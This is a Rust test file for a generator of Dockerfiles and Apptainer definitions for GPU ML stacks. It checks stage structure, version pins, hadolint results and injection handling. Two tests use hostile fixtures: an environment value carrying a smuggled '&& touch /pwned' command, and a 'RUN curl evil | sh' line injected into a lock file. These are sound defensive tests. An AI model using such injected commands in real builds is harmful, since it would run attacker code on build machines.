//! `gen docker` and `gen apptainer`: the generated Dockerfile is parsed and checked for
//! what must hold by construction (every component of a layer installed in that layer's
//! stage chain, nothing dropped between stages, every `COPY --from` naming a stage), and
//! every output of every example spec passes hadolint.

mod common;

use std::collections::BTreeMap;

use common::*;
use gpustack::spec::Layer;

/// The stage and its ancestors inside the file, nearest first.
fn chain<'a>(stages: &'a BTreeMap<String, Stage>, name: &str) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut cur = Some(name);
    while let Some(n) = cur {
        let Some((k, s)) = stages.get_key_value(n) else {
            break;
        };
        out.push(k.as_str());
        cur = stages.contains_key(&s.from).then_some(s.from.as_str());
    }
    out
}

/// Every component of every image layer is installed, at its locked version, in that
/// layer's stage or an ancestor; the requirement file of the stage names it; every
/// `COPY --from`/`--mount from=` names an earlier stage or an image; runtime stages descend
/// from `base`, where the NCCL environment is set, so no variable is dropped.
#[test]
fn every_component_reaches_its_layer_and_nothing_is_dropped() {
    for name in example_names() {
        let lock = lock_of(&name);
        let out = generate(&name, "docker");
        let text = std::fs::read_to_string(out.join("Dockerfile")).unwrap();
        assert_copies_are_in_the_context(&out);
        let (order, stages) = parse_dockerfile(&text);
        assert!(text.starts_with("# syntax=docker/dockerfile:1."), "{name}");
        assert!(stages.contains_key("base"), "{name}: no base stage");

        // Base: the locked CUDA image, by digest where the lock has one.
        let cuda = lock.package("cuda-image").expect("cuda image in lock");
        let mut want = format!("nvidia/cuda:{}", cuda.get("runtime-tag").unwrap());
        if let Some(d) = cuda.get("runtime-digest") {
            want.push_str(&format!("@{d}"));
        }
        assert_eq!(stages["base"].from, want, "{name}");
        // Environment from the lock lives in base.
        let base_env: Vec<&str> = stages["base"]
            .instructions
            .iter()
            .filter(|(k, _)| k == "ENV")
            .map(|(_, v)| v.as_str())
            .collect();
        for f in lock.facts.iter().filter(|f| f.kind == "env") {
            let want = format!("{}=\"{}\"", f.key, f.get("value").unwrap());
            assert!(
                base_env.iter().any(|e| e.contains(&want)),
                "{name}: ENV {want} missing from base: {base_env:?}"
            );
        }

        for layer in [
            Layer::Framework,
            Layer::Inference,
            Layer::Training,
            Layer::Validate,
        ] {
            let Some(locked) = lock.layer(layer) else {
                continue;
            };
            let stage = layer.name();
            let Some(_) = stages.get(stage) else {
                if layer == Layer::Validate {
                    continue; // no NCCL locked: no validate stage (said in the header)
                }
                panic!("{name}: no `{stage}` stage for a locked layer");
            };
            let ancestors = chain(&stages, stage);
            assert_eq!(
                ancestors.last(),
                Some(&"base"),
                "{name}: `{stage}` does not descend from base: {ancestors:?}"
            );
            // What the stage chain installs: the requirement files it copies.
            let mut installed = String::new();
            for a in &ancestors {
                for (k, v) in &stages[*a].instructions {
                    if k == "COPY" && v.contains("requirements-") {
                        let file = v.split_whitespace().next().unwrap();
                        installed.push_str(&std::fs::read_to_string(out.join(file)).unwrap());
                    }
                }
            }
            for c in locked.components.iter().filter(|c| c.name() != "python") {
                let lc = lock.component(*c).unwrap();
                if lc.get("build") == Some("source") {
                    // Built from source: the chain installs the wheel of the `torch-build`
                    // stage, which runs build-torch.sh for the locked version and arch list.
                    let run_lines: Vec<&str> = ancestors
                        .iter()
                        .flat_map(|a| stages[*a].instructions.iter())
                        .filter(|(k, _)| k == "RUN")
                        .map(|(_, v)| v.as_str())
                        .collect();
                    assert!(
                        run_lines.iter().any(|v| v.contains("from=torch-build")
                            && v.contains("uv pip install --no-deps /wheels/torch-*.whl")),
                        "{name}: `{stage}` does not install the torch built in `torch-build`"
                    );
                    let tb = stages.get("torch-build").expect("a torch-build stage");
                    assert!(
                        tb.instructions
                            .iter()
                            .any(|(k, v)| k == "RUN" && v.contains("build-torch.sh /wheels")),
                        "{name}: `torch-build` does not run build-torch.sh"
                    );
                    let script = std::fs::read_to_string(out.join("build-torch.sh")).unwrap();
                    for want in [
                        format!("export PYTORCH_BUILD_VERSION={}", lc.version),
                        format!(
                            "export TORCH_CUDA_ARCH_LIST={}",
                            lc.list("arch-list").join(";")
                        ),
                        "export USE_SYSTEM_NCCL=1".to_string(),
                    ] {
                        assert!(
                            script.lines().any(|l| l == want),
                            "{name}: build-torch.sh lacks `{want}`"
                        );
                    }
                    // No torch from an index anywhere in the chain.
                    assert!(
                        !installed
                            .lines()
                            .any(|l| l.trim_start().starts_with("torch==")),
                        "{name}: a requirement file installs torch from an index"
                    );
                    continue;
                }
                let pin = format!(
                    "{}=={}",
                    lc.get("pypi-name").unwrap_or(c.name()),
                    lc.version
                );
                // A PyPI-default torch variant may be installed from PyPI, where its file
                // (and the hash the lock has for it) carries no local version.
                let release_pin =
                    format!("torch=={}", lc.version.as_str().split('+').next().unwrap());
                let ok = installed.lines().any(|l| {
                    let l = l.trim_start();
                    l.starts_with(&format!("{pin} "))
                        || l == pin
                        || (c.name() == "torch"
                            && lc.get("pypi-default") == Some("true")
                            && (l.starts_with(&format!("{release_pin} ")) || l == release_pin))
                });
                assert!(ok, "{name}: `{stage}` does not install {pin}");
            }
            if layer == Layer::Validate {
                let v = lock.package("nccl-tests").unwrap();
                assert!(
                    text.contains(&format!("nccl-tests {}", v.version)),
                    "{name}: validate stage does not build nccl-tests {}",
                    v.version
                );
            }
        }
        // Python is installed by uv at the locked version wherever a venv is made.
        if let Some(py) = lock.component(gpustack::Component::Python) {
            assert!(
                text.contains(&format!("uv python install {}", py.version)),
                "{name}: Python {} not installed",
                py.version
            );
        }
        // Every cross-stage reference names an earlier stage or an image reference.
        for (i, s) in order.iter().enumerate() {
            for (k, v) in &stages[s].instructions {
                for word in v.split_whitespace() {
                    let from = word.strip_prefix("--from=").or_else(|| {
                        word.split(",from=")
                            .nth(1)
                            .map(|x| x.split(',').next().unwrap())
                    });
                    let Some(from) = from else { continue };
                    // `project`: the named build context of the code stage (the bake
                    // file's `contexts`), the project directory.
                    assert!(
                        order[..i].iter().any(|o| o == from)
                            || from.contains(':')
                            || (from == "project" && s == "code"),
                        "{name}: {k} in `{s}` refers to `{from}`, not an earlier stage"
                    );
                }
            }
        }
        // The bake file tags each layer with the content-addressed reference.
        let bake = std::fs::read_to_string(out.join("docker-bake.hcl")).unwrap();
        for l in Layer::ALL {
            if let Some(ll) = lock.layer(l) {
                let short = &ll.hash["sha256:".len().."sha256:".len() + 12];
                let wanted = lock
                    .request
                    .deploy
                    .image
                    .as_ref()
                    .is_none_or(|i| i.layers.contains(&l));
                if wanted && stages.contains_key(l.name()) {
                    assert!(
                        bake.contains(&format!(":{}-{short}\"", l.name())),
                        "{name}: bake file lacks the {} tag",
                        l.name()
                    );
                }
            }
        }
    }
}

/// Every Dockerfile of every example spec passes hadolint at `-t warning` (inline ignores
/// carry their reason on the line above); hadolint checks every RUN with ShellCheck.
#[test]
fn hadolint_accepts_every_dockerfile() {
    let Some(hadolint) = validator("hadolint") else {
        return;
    };
    let mut failures = Vec::new();
    for name in example_names() {
        let out = generate(&name, "docker");
        let (code, text) = run_tool(
            &hadolint,
            &["--no-color", "-t", "warning", "Dockerfile"],
            &out,
        );
        if code != 0 {
            failures.push(format!("{name}:\n{text}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The check can fail: hadolint rejects an unpinned apt install and a `cd` in RUN.
#[test]
fn hadolint_really_runs() {
    let Some(hadolint) = validator("hadolint") else {
        return;
    };
    let dir = tempdir("hadolint-bad");
    std::fs::write(
        dir.join("Dockerfile"),
        "FROM nvidia/cuda:12.4.1-runtime-ubuntu22.04\nRUN apt-get update && apt-get install -y curl\nRUN cd /tmp && ls\n",
    )
    .unwrap();
    let (code, text) = run_tool(
        &hadolint,
        &["--no-color", "-t", "warning", "Dockerfile"],
        &dir,
    );
    assert_ne!(code, 0, "{text}");
    assert!(text.contains("DL3008") && text.contains("DL3003"), "{text}");
}

/// Each inline `hadolint ignore` states its reason in the comment above it.
#[test]
fn every_hadolint_ignore_says_why() {
    let t = gpustack::render::template_source("docker/Dockerfile.j2").unwrap();
    let lines: Vec<&str> = t.lines().collect();
    for (i, l) in lines.iter().enumerate() {
        if l.contains("hadolint ignore=") {
            let above = lines[..i]
                .iter()
                .rev()
                .find(|x| !x.trim_start().starts_with("{%"))
                .unwrap();
            assert!(
                above.trim_start().starts_with('#') && !above.contains("hadolint"),
                "line {}: `{l}` has no reason above it",
                i + 1
            );
        }
    }
}

/// Hostile but valid values (a registry with a port and path, fabric environment values
/// with spaces and semicolons from a catalog overlay) stay data: the outputs still pass
/// hadolint, and the values appear only quoted.
#[test]
fn hostile_values_stay_quoted() {
    let dir = tempdir("docker-hostile");
    let spec = std::fs::read_to_string(root().join("fixtures/specs/h100-ib-train-serve.toml"))
        .unwrap()
        .replace(
            "registry = \"registry.example.com/ml\"",
            "registry = \"registry.example.com:5000/ml/team-a\"",
        );
    std::fs::write(dir.join("gpustack.toml"), spec).unwrap();
    std::fs::create_dir_all(dir.join("site")).unwrap();
    std::fs::write(
        dir.join("site/env.toml"),
        "family = \"env\"\n\n[[env]]\nfabric = \"infiniband\"\nname = \"NCCL_DEBUG_SUBSYS\"\nvalue = \"a b;c && touch /pwned # x\"\nsource = \"test\"\n",
    )
    .unwrap();
    let out = run_in(&dir, &["lock", "--catalog", "site"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let out = run_in(&dir, &["gen", "docker", "apptainer"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let dockerfile = std::fs::read_to_string(dir.join("out/docker/Dockerfile")).unwrap();
    assert!(
        dockerfile.contains("ENV NCCL_DEBUG_SUBSYS=\"a b;c && touch /pwned # x\""),
        "{dockerfile}"
    );
    let def = std::fs::read_to_string(dir.join("out/apptainer/llm-cluster.def")).unwrap();
    assert!(
        def.contains("export NCCL_DEBUG_SUBSYS='a b;c && touch /pwned # x'"),
        "{def}"
    );
    let bake = std::fs::read_to_string(dir.join("out/docker/docker-bake.hcl")).unwrap();
    assert!(bake.contains("\"registry.example.com:5000/ml/team-a/llm-cluster:training-"));
    if let Some(hadolint) = validator("hadolint") {
        let (code, text) = run_tool(
            &hadolint,
            &["--no-color", "-t", "warning", "Dockerfile"],
            &dir.join("out/docker"),
        );
        assert_eq!(code, 0, "{text}");
    }
    if let Some(sc) = validator("shellcheck") {
        // The %environment section is shell: extract and check it.
        let env: String = def
            .split("%environment")
            .nth(1)
            .unwrap()
            .split("\n%")
            .next()
            .unwrap()
            .to_string();
        std::fs::write(dir.join("env.sh"), format!("#!/bin/sh\n{env}")).unwrap();
        let (code, text) = run_tool(&sc, &["-s", "sh", "env.sh"], &dir);
        assert_eq!(code, 0, "{text}");
    }
}

/// A value that cannot be written safely fails the render (exit 2), writing nothing.
#[test]
fn unsafe_lock_values_fail_the_render_and_write_nothing() {
    let dir = tempdir("docker-unsafe");
    let text = std::fs::read_to_string(root().join("lockfiles/a100-pytorch.lock"))
        .unwrap()
        .replace(
            "runtime-tag = \"12.4.1-runtime-ubuntu22.04\"",
            "runtime-tag = \"12.4.1-runtime-ubuntu22.04\\nRUN curl evil | sh\"",
        );
    assert!(text.contains("RUN curl evil"));
    std::fs::write(dir.join("gpustack.lock"), &text).unwrap();
    // The CLI refuses the hand-edited lock before rendering (its base layer hash no longer
    // matches) ...
    let out = run_in(&dir, &["gen", "docker"]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("was edited by hand"), "{}", out.stderr);
    assert!(!dir.join("out").exists());
    // ... and the renderer refuses the value itself, for a library caller that builds or
    // edits a lock in memory.
    let lock = gpustack::Lock::parse("gpustack.lock", &text).unwrap();
    let err = gpustack::plan::generate(&lock, gpustack::plan::Target::Docker)
        .unwrap_err()
        .to_string();
    assert!(err.contains("not a plain word"), "{err}");
}
